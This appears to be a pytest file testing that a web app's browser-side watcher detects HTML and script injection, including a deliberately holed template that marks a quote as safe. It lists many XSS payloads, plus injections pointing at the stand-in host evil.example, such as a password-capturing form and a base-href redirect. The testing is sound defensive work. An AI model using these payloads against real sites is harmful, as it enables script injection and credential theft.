"""The test of the test: a hole that is made on purpose is found, and each way to do harm is noticed by itself."""

import pytest

from deliberation.models import Evidence
from tests.cast import gather
from tests.payloads import PAYLOADS
from tests.safe_text.watcher import Watcher
from tests.scene import set_scene
from tests.services.browser import session_cookie
from tests.source import ROOT

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

TEMPLATE = "components/evidence.html"
RUN = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
)
HARM = {
    "<script>alert(1)</script>": "ran",
    "<img src=x onerror=alert(1)>": "ran",
    "<svg/onload=alert(1)>": "ran",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>': "ran",
    "<b onclick=alert(1)>x</b>": "b onclick=",
    '<a href="javascript:alert(1)">x</a>': "a href=javascript:",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>': "a xlink:href=",
    "<img src=//evil.example/canary.png>": "reached out",
    '<div data-hx-get="/sign-out/?canary" data-hx-trigger="revealed">x</div>': "div data-hx-get=",
    '<p id="canary" name="canary">x</p>': "p id=",
    '<form action="https://evil.example/"><input name=password></form>': "form action=",
    '<p style="background:url(//evil.example/canary.png)">x</p>': "p style=",
    "<base href=https://evil.example/>": "base href=",
    '<meta http-equiv=refresh content="9;url=https://evil.example/canary">': "meta content=",
    "<template><script>alert(1)</script></template>": "<template>",
    '<b x">"canary=1>x</b>': "b ",
}


@pytest.fixture
def watcher(browser, site):
    context = browser.new_context(base_url=site)
    yield Watcher(context.new_page(), site)
    context.close()


def test_each_way_to_do_harm_is_noticed_by_itself(watcher):
    noticed = {harm: watcher.show(f"<!doctype html><title>x</title>{harm}") for harm in HARM}
    missed = {
        harm: noticed[harm] for harm, how in HARM.items() if not any(how in one for one in noticed[harm])
    }
    assert missed == {}
    assert watcher.show("<!doctype html><title>x</title><p>No harm: alert, canary</p>") == []


@pytest.fixture
def hole(settings, tmp_path):
    """The template of evidence as it is, but with a quote that is taken for safe."""
    whole = (ROOT / "frontend/templates" / TEMPLATE).read_text(encoding="utf-8")
    holed = whole.replace("{{ item.quote }}", "{{ item.quote|safe }}")
    assert holed != whole
    (tmp_path / TEMPLATE).parent.mkdir()
    (tmp_path / TEMPLATE).write_text(holed, encoding="utf-8")
    settings.TEMPLATES = [{**settings.TEMPLATES[0], "DIRS": [tmp_path]}]


@pytest.mark.usefixtures("transactional_db", "hole")
def test_a_hole_in_a_template_is_found_by_what_runs(watcher, site):
    cast = gather()
    scene = set_scene(cast)
    watcher.page.context.add_cookies([session_cookie(cast.hana, site)])
    assert watcher.open("/i/AI-1/1/") == []
    for payload in RUN:
        assert payload in PAYLOADS
        Evidence.objects.filter(pk=scene.evidence.pk).update(quote=payload)
        assert any("Content Security Policy" in fault for fault in watcher.open("/i/AI-1/1/")), payload
